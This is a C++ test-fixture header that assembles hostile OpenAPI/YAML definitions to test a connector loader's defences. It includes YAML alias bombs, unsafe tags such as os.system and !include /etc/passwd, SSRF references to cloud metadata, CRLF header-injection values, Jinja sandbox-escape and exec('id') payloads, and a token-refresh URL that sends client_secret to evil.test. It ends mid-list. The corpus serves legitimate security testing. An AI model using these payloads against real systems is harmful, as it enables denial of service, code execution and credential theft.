// The corpus of hostile definitions; hostile_corpus_test.cpp judges what becomes of each.
#pragma once

#include "connector/testdata/small_definition.hpp"

#include <string>
#include <string_view>
#include <vector>

namespace fairlead::connector::hostile {

using namespace std::string_literals;

// Parts of definitions.

inline std::string repeated(std::string_view text, std::size_t count) {
  std::string out;
  out.reserve(text.size() * count);
  for (std::size_t i = 0; i < count; ++i) out += text;
  return out;
}

/// `text` for each number, # replaced by it.
inline std::string numbered(std::string_view text, std::size_t count) {
  std::string out;
  for (std::size_t i = 0; i < count; ++i)
    for (const char c : text) c == '#' ? out += std::to_string(i) : out += c;
  return out;
}

inline std::string small(const SmallDefinition& parts) { return source_of(parts); }
inline std::string operation(const std::string& lines) { return small({.operation = lines}); }
inline std::string info(const std::string& lines) { return small({.info = lines}); }
inline std::string server(const std::string& lines) { return small({.server = lines}); }
inline std::string components(const std::string& lines) { return small({.components = lines}); }
inline std::string at_path(const std::string& path) { return small({.path = path}); }
inline std::string scheme(const std::string& lines) {
  return components("securitySchemes:\n  s:\n" + indented(lines, 4));
}
inline std::string auth(const std::string& config) {
  return scheme("type: http\nscheme: bearer\nx-airbyte-auth-config:\n" + indented(config, 2));
}
inline std::string body(const std::string& schema) {
  return small(
      {.method = "post",
       .action = "create",
       .operation = "requestBody: {content: {application/json: {schema: " + schema + "}}}"});
}
inline std::string graphql(const std::string& lines) {
  return small({.method = "post",
                .action = "search",
                .operation = "requestBody:\n  x-airbyte-body-type:\n    type: graphql\n" +
                             indented(lines, 4)});
}
inline std::string header(const std::string& name, const std::string& more = "") {
  return operation("parameters: [{name: \"" + name + "\", in: header" + more + "}]");
}
inline std::string filter(const std::string& text) {
  return operation("x-airbyte-record-extractor: $.d\nx-airbyte-record-filter: \"{{ " + text +
                   " }}\"");
}
inline std::string transform(const std::string& text) {
  return operation("x-airbyte-record-extractor: $.d\nx-airbyte-record-transform: {t: \"" + text +
                   "\"}");
}
/// A definition with `more` put before its first line.
inline std::string before(const std::string& more) { return more + small({}); }
inline std::string behind(const std::string& more) { return small({}) + more; }
inline std::string referring(const std::string& target) {
  return small({}) +
         "  /referring: {get: {x-airbyte-entity: r, x-airbyte-action: get, responses: {\"200\": "
         "{description: d, content: {application/json: {schema: {$ref: '" +
         target + "'}}}}}}}\n";
}

struct Hostile {
  std::string group, name, text;
  std::string refused_with = {};  ///< empty: it loads, and stays bounded
};

inline std::string bomb(const std::string& leaf, int levels, int width) {
  std::string text = "a0: &a0 " + leaf + "\n";
  for (int i = 1; i < levels; ++i) {
    const std::string n = std::to_string(i), one = "*a" + std::to_string(i - 1);
    text += "a" + n + ": &a" + n + " [" + one;
    for (int k = 1; k < width; ++k) text += ", " + one;
    text += "]\n";
  }
  return text;
}

inline void add_aliases(std::vector<Hostile>& all) {
  const std::string many = "values";
  all.push_back({"aliases", "billion laughs", bomb("[x, x, x, x, x, x, x, x, x]", 12, 10), many});
  all.push_back(
      {"aliases", "billion laughs before a definition", before(bomb("lol", 14, 9)), many});
  all.push_back({"aliases", "wide and flat",
                 before("a: &a [" + repeated("x, ", 10'000) + "x]\nb: [" +
                        repeated("*a, ", 10'000) + "*a]\n"),
                 many});
  all.push_back({"aliases", "a chain of 100 levels", before([] {
                   std::string text = "a0: &a0 [x]\n";
                   for (int i = 1; i < 100; ++i)
                     text += "a" + std::to_string(i) + ": &a" + std::to_string(i) + " [*a" +
                             std::to_string(i - 1) + "]\n";
                   return text;
                 }()),
                 "deeper than 64"});
  all.push_back({"aliases", "a text of 1 MB, 20,000 times",
                 info("x-text: &t \"" + std::string(1u << 20, 'x') + "\"\nx-list: [" +
                      repeated("*t, ", 20'000) + "*t]"),
                 "bytes of text"});
  all.push_back({"aliases", "a text of 60 KB in 12,000 enums",
                 info("x-text: &t \"" + std::string(60'000, 'x') + "\"") +
                     "components:\n  schemas:\n    A:\n      enum: [" + repeated("*t, ", 12'000) +
                     "*t]\n",
                 "bytes of text"});
  all.push_back({"aliases", "inside its own anchor", info("x-a: &a [1, *a]"), "its own anchor"});
  all.push_back(
      {"aliases", "inside its own mapping", info("x-a: &a\n  b:\n    c: *a"), "its own anchor"});
  all.push_back({"aliases", "without an anchor", info("x-a: *nowhere"), "no anchor before it"});
  all.push_back({"aliases", "as a key", info("x-a: &k name\n*k : 1"), "not an alias"});
  all.push_back({"aliases", "an anchored key", info("&k x-a: 1"), "cannot carry an anchor"});
  all.push_back({"aliases", "30,000 anchors", info("x-a:\n" + numbered("  - &a# x\n", 30'000))});
  all.push_back(
      {"aliases", "one anchor 30,000 times", info("x-a:\n" + repeated("  - &a x\n", 30'000))});
}

inline void add_nesting(std::vector<Hostile>& all) {
  const std::string deep = "deeper than 64";
  all.push_back({"nesting", "lists in lists", repeated("[", 1'000'000), deep});
  all.push_back({"nesting", "mappings in mappings", repeated("{a: ", 400'000), deep});
  all.push_back({"nesting", "blocks in blocks", repeated("- ", 900'000), deep});
  all.push_back({"nesting", "questions", repeated("? ", 900'000), "a key must be text"});
  all.push_back({"nesting", "JSON of 100,000 levels",
                 "{\"a\":" + repeated("[", 100'000) + repeated("]", 100'000) + "}", deep});
  all.push_back({"nesting", "lists and mappings in turns", repeated("[{a: ", 200'000), deep});
  all.push_back({"nesting", "an extension of 70 levels",
                 info("x-deep: " + repeated("[", 70) + repeated("]", 70)), deep});
  all.push_back({"nesting", "a schema of 70 levels",
                 components("schemas:\n  A:\n    items: " + repeated("{items: ", 70) + "{}" +
                            repeated("}", 70)),
                 deep});
  all.push_back({"nesting", "a variables template of 50 levels",
                 graphql("query: q\nvariables: {v: " + repeated("[", 50) + "'{{ a }}'" +
                         repeated("]", 50) + "}")});
}

inline void add_texts(std::vector<Hostile>& all) {
  const std::string long_text(1'900'000, 'x');
  all.push_back({"texts", "over 2 MiB", "#" + std::string(2u << 20, '#'), "at most 2097152"});
  all.push_back({"texts", "a description of 1.9 MB", info("description: " + long_text)});
  all.push_back({"texts", "a key of 1.9 MB", info("\"" + long_text + "\": 1"), "not valid YAML"});
  all.push_back({"texts", "a plain key of 1.9 MB", info(long_text + ": 1"), "not valid YAML"});
  all.push_back(
      {"texts", "a key of 900 letters", info("\"" + std::string(900, 'k') + "\": 1"), "not known"});
  all.push_back({"texts", "600,000 blank lines",
                 info("description: |\n  a" + repeated("\n", 600'000) + "  b")});
  all.push_back(
      {"texts", "1.9 MB of blanks", info("description: >\n  a" + repeated(" ", 1'900'000))});
  all.push_back(
      {"texts", "300,000 escapes", info("description: \"" + repeated("\\u00e9", 300'000) + "\"")});
  all.push_back({"texts", "a comment of 1.9 MB", before("# " + long_text + "\n")});
  all.push_back({"texts", "300,000 comments", before(repeated("# c\n", 300'000))});
  all.push_back({"texts", "an entity of 500 KB",
                 small({.operation = "x-more: 1"}) + "  /long:\n    get: {x-airbyte-entity: " +
                     std::string(500'000, 'e') + ", x-airbyte-action: list}\n"});
  all.push_back({"texts", "an action of 500 KB",
                 behind("  /b: {get: {x-airbyte-entity: e, x-airbyte-action: " +
                        std::string(500'000, 'a') + "}}\n"),
                 "is not one of"});
  all.push_back({"texts", "a parameter of 500 KB",
                 operation("parameters: [{name: " + std::string(500'000, 'p') +
                           ", in: query, required: true}]")});
  all.push_back({"texts", "a required field of 500 KB",
                 body("{required: [" + std::string(500'000, 'r') + "], properties: {a: {}}}")});
  all.push_back(
      {"texts", "a setting of 500 KB",
       info("x-airbyte-scoping: [{param: p, config_key: " + std::string(500'000, 'c') + "}]")});
  all.push_back(
      {"texts", "a scheme of 100 KB",
       components("securitySchemes:\n  \"" + std::string(900, 's') +
                  "\": {type: http, scheme: bearer, x-long: " + std::string(100'000, 'l') + "}")});
  all.push_back({"texts", "an error field of 500 KB",
                 info("x-airbyte-response-error-check: {field: d, on_value: [], message_field: " +
                      std::string(500'000, 'f') + "}")});
}

inline void add_keys(std::vector<Hostile>& all) {
  const std::string twice = "stands twice";
  all.push_back({"keys", "paths twice", behind("paths: {}\n"), twice});
  all.push_back({"keys", "info twice", before("info: {}\n"), twice});
  all.push_back({"keys", "a path twice",
                 behind("  /things: {get: {x-airbyte-entity: a, x-airbyte-action: get}}\n"),
                 twice});
  all.push_back({"keys", "a method twice",
                 behind("    get: {x-airbyte-entity: a, x-airbyte-action: get}\n"), twice});
  all.push_back({"keys", "a parameter's name twice",
                 operation("parameters: [{name: a, name: b, in: query}]"), twice});
  all.push_back({"keys", "quoted and plain", info("x-a: 1\n\"x-a\": 2"), twice});
  all.push_back({"keys", "by an escape", info("x-a: 1\n\"x-\\u0061\": 2"), twice});
  all.push_back({"keys", "a server's URL twice",
                 server("url: https://a.example\nurl: https://b.test"), twice});
  all.push_back({"keys", "a scheme's header twice",
                 scheme("type: apiKey\nin: header\nname: X-A\nname: X-B"), twice});
  all.push_back({"keys", "40,000 times one key", info(repeated("x-a: 1\n", 40'000)), twice});
  all.push_back({"keys", "a merge key", info("x-a: &a {b: 1}\nx-b:\n  <<: *a"), "merge keys"});
  all.push_back(
      {"keys", "a merge of a list", info("x-a: &a {b: 1}\nx-b: {<<: [*a, *a]}"), "merge keys"});
  all.push_back({"keys", "a merge into an operation",
                 info("x-a: &a {x-airbyte-path-override: {path: /evil}}") +
                     "  /b:\n    get:\n      <<: *a\n      x-airbyte-entity: b\n      "
                     "x-airbyte-action: list\n",
                 "merge keys"});
  all.push_back({"keys", "a quoted merge key is a name", operation("\"<<\": {a: b}"), "not known"});
  all.push_back({"keys", "a number", info("200: a"), "write it in quotes"});
  all.push_back({"keys", "a boolean", info("true: a"), "write it in quotes"});
  all.push_back({"keys", "null", info("~: a"), "write it in quotes"});
  all.push_back({"keys", "a list", info("[a, b]: c"), "not a list or mapping"});
  all.push_back({"keys", "a mapping", info("{a: b}: c"), "not a list or mapping"});
  all.push_back({"keys", "empty", info("\"\": c"), "not known"});
}

inline void add_tags(std::vector<Hostile>& all) {
  const std::string tags = "tags such as";
  for (const char* const tag :
       {"!!python/object/apply:os.system [id]", "!!python/name:os.system ''",
        "!!binary aGk=", "!!set {a}", "!!omap [{a: b}]", "!!float 'x'", "!!int '7'", "!local x",
        "!<tag:evil,2026:x> y", "! x", "!!js/function 'f'", "!ruby/object:Gem::Installer {i: x}",
        "!!java.net.URL x", "!include /etc/passwd", "!env SECRET"})
    all.push_back({"tags", tag, info("x-a: "s + tag), tags});
  all.push_back({"tags", "on a key", info("!!str x-a: 1"), tags});
  all.push_back({"tags", "a directive", before("%TAG !e! tag:evil,2026:\n---\n"), "directive"});
  all.push_back({"tags", "80,000 directives",
                 before(numbered("%TAG !e#! tag:evil\n", 80'000) + "---\n"), "directive"});
  all.push_back({"tags", "YAML 9.9", before("%YAML 9.9\n---\n"), "not valid YAML"});
  all.push_back({"tags", "an unknown directive", before("%EVIL 1\n---\n"), "not valid YAML"});
  all.push_back(
      {"tags", "a second document", behind("---\nopenapi: 3.1.0\n"), "a second one begins"});
  all.push_back({"tags", "a second document without a mark", behind("...\nopenapi: 3.1.0\n"),
                 "document start"});
}

inline void add_encodings(std::vector<Hostile>& all) {
  const std::string unreadable = "not readable text";
  const auto wide = [](std::string_view text, bool big) {
    std::string out = big ? "\xfe\xff" : "\xff\xfe";
    for (const char c : text) big ? (out += '\0', out += c) : (out += c, out += '\0');
    return out;
  };
  all.push_back({"encodings", "UTF-16", wide(small({}), false), unreadable});
  all.push_back({"encodings", "UTF-16, big end first", wide(small({}), true), unreadable});
  all.push_back({"encodings", "UTF-32", "\xff\xfe\0\0o\0\0\0"s, unreadable});
  all.push_back({"encodings", "latin 1", info("x-a: f\xfcr"), unreadable});
  all.push_back({"encodings", "an overlong NUL", info("x-a: \xc0\x80"), unreadable});
  all.push_back({"encodings", "an overlong slash", info("x-a: \xe0\x80\xaf"), unreadable});
  all.push_back({"encodings", "a surrogate", info("x-a: \xed\xa0\x80"), unreadable});
  all.push_back({"encodings", "beyond Unicode", info("x-a: \xf4\x90\x80\x80"), unreadable});
  all.push_back({"encodings", "cut off", info("x-a: \xe2\x82"), "not"});
  all.push_back({"encodings", "NUL", info("x-a: a\0b"s), unreadable});
  all.push_back({"encodings", "a control character",
                 info("x-a: a\x01"
                      "b"),
                 unreadable});
  all.push_back({"encodings", "delete",
                 info("x-a: a\x7f"
                      "b"),
                 unreadable});
  all.push_back({"encodings", "a mark in the middle",
                 info("x-a: a\xef\xbb\xbf"
                      "b")});
  all.push_back({"encodings", "two marks", before("\xef\xbb\xbf\xef\xbb\xbf"), "not"});
  all.push_back({"encodings", "half a pair in JSON", "{\"openapi\": \"\\ud83d\"}", "Unicode"});
  all.push_back({"encodings", "a low half in JSON", "{\"openapi\": \"\\ude00\"}", "Unicode"});
  all.push_back({"encodings", "half a pair in a quoted text", info("x-a: \"\\ud800\""), "Unicode"});
  all.push_back({"encodings", "an escape beyond Unicode", info("x-a: \"\\U00110000\""), "Unicode"});
  all.push_back({"encodings", "NUL by an escape in a name",
                 operation("parameters: [{name: \"a\\0b\", in: query}]")});
  all.push_back({"encodings", "NUL by an escape in an entity",
                 behind("  /b: {get: {x-airbyte-entity: \"a\\0b\", x-airbyte-action: list}}\n")});
  all.push_back({"encodings", "text from right to left",
                 info("x-airbyte-connector-display-name: \"\\u202Eelbatsurt\"")});
  all.push_back({"encodings", "lines ended by returns", before("# a\r\r\n# b\x0b\n"), unreadable});
}

inline void add_numbers(std::vector<Hostile>& all) {
  const std::string finite = "finite";
  for (const char* const number : {".inf", "-.inf", ".nan", "1e999", "-1e999"})
    all.push_back({"numbers", number, info("x-a: "s + number), finite});
  all.push_back({"numbers", "400 digits", info("x-a: " + std::string(400, '9')), finite});
  all.push_back({"numbers", "200 digits", info("x-a: " + std::string(200, '9'))});
  all.push_back(
      {"numbers", "a megabyte of digits", info("x-a: " + std::string(1'000'000, '9')), finite});
  all.push_back(
      {"numbers", "a megabyte behind the point", info("x-a: 0." + std::string(1'000'000, '1'))});
  all.push_back({"numbers", "a long hexadecimal", info("x-a: 0x" + std::string(4'000, 'f'))});
  all.push_back({"numbers", "an exponent of 4,000 digits",
                 info("x-a: 1e" + std::string(4'000, '9')), finite});
  all.push_back({"numbers", "attempts beyond counting",
                 info("x-airbyte-retry-config: {max_attempts: 1000000000}"), "0 to 100"});
  all.push_back({"numbers", "attempts below zero",
                 info("x-airbyte-retry-config: {max_attempts: -9223372036854775808}"), "0 to 100"});
  all.push_back({"numbers", "half an attempt", info("x-airbyte-retry-config: {max_attempts: 0.5}"),
                 "a whole number"});
  all.push_back({"numbers", "a delay of 10^308 seconds",
                 info("x-airbyte-retry-config: {initial_delay_seconds: 1e308}"), "0 to 86400"});
  all.push_back({"numbers", "a delay below zero",
                 info("x-airbyte-retry-config: {max_delay_seconds: -1}"), "0 to 86400"});
  all.push_back({"numbers", "a base of 10^30",
                 info("x-airbyte-retry-config: {exponential_base: 1e30}"), "0 to 86400"});
  all.push_back({"numbers", "a status beyond HTTP",
                 info("x-airbyte-retry-config: {retry_on_status_codes: [99999999999999999999]}"),
                 "100 to 599"});
  all.push_back({"numbers", "40,000 statuses",
                 info("x-airbyte-retry-config: {retry_on_status_codes: [" +
                      repeated("500, ", 40'000) + "500]}")});
  all.push_back({"numbers", "a batch beyond the store",
                 info("x-airbyte-context-store: {flush_batch_size_mb: 18446744073709551615, "
                      "entities: []}"),
                 "a number is expected"});
}

inline void add_references(std::vector<Hostile>& all) {
  const std::string things = "#/components/schemas/";
  for (const char* const target :
       {"https://evil.test/schema.yaml", "http://169.254.169.254/latest/meta-data",
        "file:///etc/passwd", "../../../../etc/passwd", "/etc/shadow",
        "#/components/schemas/../../info", "#/info/title", "#/components/securitySchemes/s", "#",
        "", "other.yaml#/components/schemas/A", "#/components/schemas/%41", "\\\\evil.test\\share",
        "#/components/schemas/No"})
    all.push_back({"references", "to "s + target, referring(target)});
  all.push_back({"references", "to itself",
                 referring(things + "A") + "components:\n  schemas:\n    A: {items: {$ref: '" +
                     things + "A'}}\n"});
  all.push_back({"references", "in a circle of three",
                 referring(things + "A") + "components:\n  schemas:\n    A: {items: {$ref: '" +
                     things + "B'}}\n    B: {items: {$ref: '" + things +
                     "C'}}\n    C: {items: {$ref: '" + things + "A'}}\n"});
  std::string multiplying, chain, circle_of_all;
  for (int i = 0; i < 20; ++i) {
    multiplying += "    A" + std::to_string(i) + ":\n      properties:\n";
    for (int k = 0; k < 10; ++k)
      multiplying += "        p" + std::to_string(k) + ": {$ref: '" + things + "A" +
                     std::to_string(i + 1) + "'}\n";
  }
  for (int i = 0; i < 8'000; ++i)
    chain += "    A" + std::to_string(i) + ": {items: {$ref: '" + things + "A" +
             std::to_string(i + 1) + "'}}\n";
  for (int i = 0; i < 60; ++i) {
    circle_of_all += "    A" + std::to_string(i) + ":\n      properties:\n";
    for (int k = 0; k < 60; ++k)
      circle_of_all += "        p" + std::to_string(k) + ": {$ref: '" + things + "A" +
                       std::to_string(k) + "'}\n";
  }
  all.push_back({"references", "that multiply",
                 referring(things + "A0") + "components:\n  schemas:\n" + multiplying});
  all.push_back({"references", "in a chain of 8,000",
                 referring(things + "A0") + "components:\n  schemas:\n" + chain});
  all.push_back({"references", "of each of 60 to all",
                 referring(things + "A0") + "components:\n  schemas:\n" + circle_of_all});
  std::string operations;
  for (int i = 0; i < 2'000; ++i)
    operations += "  /b" + std::to_string(i) + ": {get: {x-airbyte-entity: e" + std::to_string(i) +
                  ", x-airbyte-action: list, responses: {\"200\": {description: d, content: "
                  "{application/json: {schema: {$ref: '" +
                  things + "A'}}}}}}}\n";
  all.push_back({"references", "2,000 to a text of 500 KB",
                 behind(operations) + "components:\n  schemas:\n    A: {description: " +
                     std::string(500'000, 'x') + "}\n"});
  const std::string here = "cannot stand here";
  all.push_back({"references", "of a parameter",
                 operation("parameters: [{$ref: '#/a', name: a, in: query}]"), here});
  all.push_back({"references", "of a request body", operation("requestBody: {$ref: '#/a'}"), here});
  all.push_back({"references", "of an answer",
                 behind("  /b: {get: {x-airbyte-entity: b, x-airbyte-action: get, responses: "
                        "{\"200\": {$ref: '#/a'}}}}\n"),
                 here});
  all.push_back({"references", "of a component schema",
                 components("schemas: {A: {$ref: '" + things + "B'}}"), "not known"});
  all.push_back({"references", "of a path to elsewhere",
                 behind("  /b: {$ref: 'https://evil.test/paths.yaml'}\n")});
}

inline void add_servers(std::vector<Hostile>& all) {
  const std::string wrong = "servers[0].url";
  for (const char* const url : {"ftp://a.example",
                                "file:///etc/passwd",
                                "javascript:alert(1)",
                                "//a.example",
                                "a.example",
                                "gopher://a.example",
                                "https://user:pw@a.example",
                                "https://a.example@evil.test",
                                "https://a.example\\\\@evil.test",
                                "https://",
                                "https:///x",
                                "https://a.example:99999",
                                "https://a.example:0",
                                "https://a b.example",
                                "https://a.example#x",
                                "https://[::1",
                                "https://a.example%2eevil.test",
                                "https://a\\r\\nHost: evil.test",
                                "https://a.example\\0.evil.test",
                                "https://.."})
    all.push_back({"servers", url, server("url: \""s + url + "\""), wrong});
  all.push_back({"servers", "an address of 9 KB",
                 server("url: https://a.example/" + std::string(9'000, 'x')), "8 KiB"});
  all.push_back({"servers", "a scheme to fill in",
                 server("url: \"{s}://a.example\"\nvariables: {s: {default: http}}")});
  all.push_back({"servers", "2,000 holes",
                 server("url: \"https://a.example/" + repeated("{a}", 2'000) +
                        "\"\nvariables: {a: {default: x}}")});
  all.push_back({"servers", "a hole that never ends", server("url: \"https://{a.example\"")});
  all.push_back({"servers", "holes in holes", server("url: \"https://{a{b}}.example\"")});
  all.push_back(
      {"servers", "a default with a host of its own",
       server("url: \"https://{a}.a.example\"\nvariables: {a: {default: \"evil.test/\"}}")});
  all.push_back({"servers", "a default with another hole",
                 server("url: \"https://{a}.a.example\"\nvariables: {a: {default: \"{b}\"}, b: "
                        "{default: \"evil.test#\"}}")});
  all.push_back({"servers", "10,000 variables",
                 server("url: \"https://a.example\"\nvariables:\n" +
                        numbered("  v#: {default: x}\n", 10'000))});
  std::string many = small({});
  many.insert(many.find("paths:"), repeated("  - url: https://b.test\n", 15'000));
  all.push_back({"servers", "15,000 servers", many});
}

inline void add_paths(std::vector<Hostile>& all) {
  for (const char* const path : {"/../admin",
                                 "/a/../../b",
                                 "/./a",
                                 "/a/..",
                                 "/%2e%2e/admin",
                                 ".evil.test/x",
                                 "@evil.test/x",
                                 ":8080/x",
                                 "evil",
                                 "//evil.test/x",
                                 "https://evil.test/x",
                                 "/a\\\\..\\\\b",
                                 "/a#b",
                                 "/a?key=1&token=2",
                                 "/a\\r\\nX: y",
                                 "/a\\0b",
                                 "?x=1",
                                 "",
                                 "/{a}{b}",
                                 "/{.}/{..}",
                                 "{a}/b",
                                 "{a}.evil.test/b",
                                 "/a b",
                                 "/\\u202e"})
    all.push_back({"paths", path, at_path(path)});
  for (const char* const path :
       {".evil.test/x", "@evil.test/x", "{a}", "/../../x", "https://evil.test", "/ok?a={b}"})
    all.push_back({"paths", "an override "s + path,
                   operation("x-airbyte-path-override: {path: \""s + path + "\"}")});
  all.push_back({"paths", "of 9 KB", at_path("/" + std::string(9'000, 'x')), "not valid YAML"});
  all.push_back({"paths", "an override of 9 KB",
                 operation("x-airbyte-path-override: {path: /" + std::string(9'000, 'x') + "}"),
                 "8 KiB"});
  all.push_back({"paths", "2,500 holes",
                 small({.path = "/x",
                        .operation = "x-airbyte-path-override: {path: '/" + repeated("{a}", 2'500) +
                                     "'}\nparameters: [{name: a, in: path, required: true}]"})});
  all.push_back(
      {"paths", "10,000 paths",
       behind(numbered("  /p#: {get: {x-airbyte-entity: e#, x-airbyte-action: list}}\n", 8'000))});
  all.push_back(
      {"paths", "8,000 operations of one name",
       behind(numbered("  /p#: {get: {x-airbyte-entity: e, x-airbyte-action: list}}\n", 8'000))});
}

inline void add_headers(std::vector<Hostile>& all) {
  const std::string forbidden = "may not set the header", no_name = "is no name of an HTTP header";
  for (const char* const name :
       {"Host", "hOsT", "Content-Length", "Transfer-Encoding", "Connection", "Upgrade", "TE",
        "Trailer", "Expect", "Forwarded", "Cookie", "Proxy-Authorization", "X-Forwarded-Host"}) {
    all.push_back({"headers", "a parameter "s + name, header(name), forbidden});
    all.push_back({"headers", "an additional "s + name,
                   auth("type: object\nproperties: {t: {}}\nauth_mapping: {token: '${t}'}\n"
                        "additional_headers: {" +
                        std::string(name) + ": x}"),
                   forbidden});
  }
  for (const char* const name : {"", "a b", "a:", "a\\r\\nb", "a\\0", "\\u00fc", "(a)", "a\\tb"})
    all.push_back({"headers", "a parameter named \""s + name + "\"", header(name),
                   *name == '\0' ? "" : no_name});
  all.push_back({"headers", "a default with a line break",
                 header("X-A", ", schema: {default: \"a\\r\\nX-B: c\"}")});
  all.push_back({"headers", "a default with NUL", header("X-A", ", schema: {default: \"a\\0b\"}")});
  all.push_back(
      {"headers", "a content type with a line break",
       small({.method = "post",
              .action = "create",
              .operation = "parameters: [{name: Content-Type, in: header, schema: "
                           "{default: \"a/b\\r\\nX: y\"}}]\nrequestBody: {content: "
                           "{application/json: {schema: {properties: {a: {default: 1}}}}}}"})});
  all.push_back({"headers", "a key in the header Host",
                 scheme("type: apiKey\nin: header\nname: Host"), forbidden});
  all.push_back({"headers", "a key in a broken header",
                 scheme("type: apiKey\nin: header\nname: \"X\\r\\nY\""), no_name});
  all.push_back({"headers", "a key that breaks the query",
                 scheme("type: apiKey\nin: query\nname: \"a=b&c\\r\\n#\"")});
  all.push_back({"headers", "a key that breaks the cookie",
                 scheme("type: apiKey\nin: cookie\nname: \"a=b; c\\r\\nX: y\"")});
  all.push_back(
      {"headers", "a token in the header Host",
       scheme("type: oauth2\nflows: {implicit: {}}\nx-airbyte-token-refresh: {header: Host}"),
       forbidden});
  all.push_back({"headers", "a prefix with a line break",
                 scheme("type: oauth2\nflows: {implicit: {}}\nx-airbyte-token-refresh: {prefix: "
                        "\"a\\r\\nX: y\"}")});
  all.push_back({"headers", "an additional header with a line break",
                 auth("type: object\nproperties: {t: {}}\nauth_mapping: {token: '${t}'}\n"
                      "additional_headers: {X-A: \"a\\r\\nX-B: {{ t }}\"}")});
  all.push_back(
      {"headers", "2,000 additional ones of 60 KB",
       auth("type: object\nproperties: {t: {}}\nauth_mapping: {token: '${t}'}\n"
            "additional_headers:\n" +
            numbered("  X-#: \"{{ t" + repeated("|replace('s', 'ssss')", 5) + " }}\"\n", 2'000))});
  all.push_back(
      {"headers", "10,000 parameters with defaults",
       operation("parameters:\n" +
                 numbered("  - {name: X-#, in: header, schema: {default: abcdefgh}}\n", 8'000))});
}

inline void add_templates(std::vector<Hostile>& all) {
  for (const char* const text : {"''.__class__.__mro__[1].__subclasses__()",
                                 "config.__init__.__globals__",
                                 "self",
                                 "cycler",
                                 "range(10**9)",
                                 "'a' * 1000000000",
                                 "record.x.y.z",
                                 "secret",
                                 "credentials.token",
                                 "access_token",
                                 "client_secret",
                                 "config.token",
                                 "now_utc() - duration('P99999999999999D')",
                                 "now_utc() + duration('P999999999D')",
                                 "day_delta(9223372036854775807, '%Y')",
                                 "now_utc().strftime('%1000000000d')",
                                 "9223372036854775807 + 9223372036854775807",
                                 "-9223372036854775808 - 1",
                                 "record['__proto__']",
                                 "record[99999999999999999999]",
                                 "lipsum()",
                                 "1 / 0",
                                 "10 ** 10 ** 10",
                                 "'%s' % record",
                                 "(1)",
                                 "1 if"}) {
    all.push_back({"templates", "a filter "s + text, filter(text)});
    all.push_back({"templates", "a transform "s + text, transform("{{ "s + text + " }}")});
  }
  for (const char* const text :
       {"{% for i in range(999999999) %}x{% endfor %}", "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}", "{% set x = 1 %}", "{# x", "{{ ", "}} {{", "{{ {{ a }} }}"})
    all.push_back({"templates", "a transform "s + text, transform(text)});
  all.push_back(
      {"templates", "1,000 brackets", filter(repeated("(", 1'000) + "1" + repeated(")", 1'000))});
  all.push_back({"templates", "1,000 times not", filter(repeated("not ", 1'000) + "1")});
  all.push_back({"templates", "5,000 sums", filter("1" + repeated("+1", 5'000))});
  all.push_back({"templates", "of 20,000 characters", transform(std::string(20'000, 'x'))});
  all.push_back({"templates", "16 KB of text for each of 2,001 records",
                 transform(std::string(16'000, 'x') + "{{ record.id }}")});
  all.push_back({"templates", "a text that is doubled 40 times",
                 transform("{{ 'ab'" + repeated("|replace('a', 'aa')", 40) + " }}")});
  all.push_back({"templates", "a text put between letters",
                 transform("{{ 'aaaaaaaa'" + repeated("|replace('', 'aaaaaaaa')", 20) + " }}")});
  all.push_back(
      {"templates", "a filter of half a million steps for each record",
       filter("('" + std::string(8'000, 'a') + "'" + repeated("|upper|lower", 30) + ") == ''")});
  all.push_back(
      {"templates", "3,000 transforms",
       operation("x-airbyte-record-extractor: $.d\nx-airbyte-record-transform:\n" +
                 numbered("  t#: \"{{ record.id }}" + std::string(100, 'x') + "\"\n", 3'000))});
  all.push_back({"templates", "a scoping that loops",
                 info("x-airbyte-scoping: [{param: a, value_template: '{% for a in b %}'}]"),
                 "value_template"});
  all.push_back(
      {"templates", "a scoping that reads a secret",
       info("x-airbyte-scoping: [{param: a, config_key: c, value_template: '{{ secret }}'}]")});
  all.push_back(
      {"templates", "an address of the token endpoint with the secret",
       scheme("type: oauth2\nflows: {authorizationCode: {refreshUrl: \"https://evil.test/{{ "
              "client_secret }}\"}}")});
  all.push_back(
      {"templates", "an address of the token endpoint that calls",
       scheme("type: oauth2\nflows: {authorizationCode: {refreshUrl: \"https://evil.test/{{ "
              "open('/etc/passwd') }}\"}}"),
       "refreshUrl"});
  all.push_back({"templates", "an additional header that calls",
                 auth("type: object\nproperties: {t: {}}\nauth_mapping: {token: '${t}'}\n"
                      "additional_headers: {X-A: \"{{ cycler.__init__.__globals__.os }}\"}"),
                 "additional_headers"});
  all.push_back(
      {"templates", "a default that calls",
       operation("parameters: [{name: a, in: query, required: true, schema: {default: \"{{ "
                 "exec('id') }}\"}}]")});
  all.push_back({"templates", "100,000 holes for one secret",
                 auth("type: object\nproperties: {t: {}}\nauth_mapping: {token: \"" +
                      repeated("${t}", 100'000) + "\"}")});
  all.push_back({"templates", "a hole in a hole",
                 auth("type: object\nproperties: {t: {}}\nauth_mapping: {token: '${${t}}'}"),
                 "used neither"});
  all.push_back({"templates", "a hole without an end",
                 auth("type: object\nproperties: {t: {}}\nauth_mapping: {token: '${t'}"),
                 "used neither"});
  all.push_back({"templates", "50,000 places for 30 KB of fields",
                 graphql("query: \"" + repeated("{{ fields }}", 50'000) +
                         "\"\ndefault_fields: " + std::string(30'000, 'f')),
                 "holes"});
  all.push_back({"templates", "900 places for 1 MB of fields",
                 graphql("query: \"" + repeated("{{ fields }}", 900) +
                         "\"\ndefault_fields: " + std::string(1'000'000, 'f'))});
  all.push_back({"templates", "900 holes for a default of 1 MB",
                 small({.method = "post",
                        .action = "search",
                        .operation = "parameters: [{name: b, in: query, schema: {default: " +
                                     std::string(1'000'000, 'd') +
                                     "}}]\nrequestBody:\n  x-airbyte-body-type: {type: graphql, "
                                     "query: q, variables: {v: \"" +
                                     repeated("{{ b }}", 900) + "x\"}}"})});
  all.push_back({"templates", "100,000 holes for one parameter",
                 small({.method = "post",
                        .action = "search",
                        .operation = "parameters: [{name: a, in: query, schema: {default: " +
                                     std::string(10'000, 'd') +
                                     "}}]\nrequestBody:\n  x-airbyte-body-type: {type: graphql, "
                                     "query: q, variables: {v: \"" +
                                     repeated("{{ a }}", 100'000) + "x\"}}"}),
                 "holes"});
  all.push_back({"templates", "a GraphQL text that closes the JSON",
                 graphql("query: \"\\\"}, \\\"evil\\\": {\\\"\"")});
}

inline void add_expressions(std::vector<Hostile>& all) {
  // Patterns are carried, never run.
  for (const char* const pattern :
       {"(a+)+$", "(a|aa)+$", "(.*)*x", "([a-zA-Z]+)*\\\\d", "^(([a-z])+.)+[A-Z]([a-z])+$",
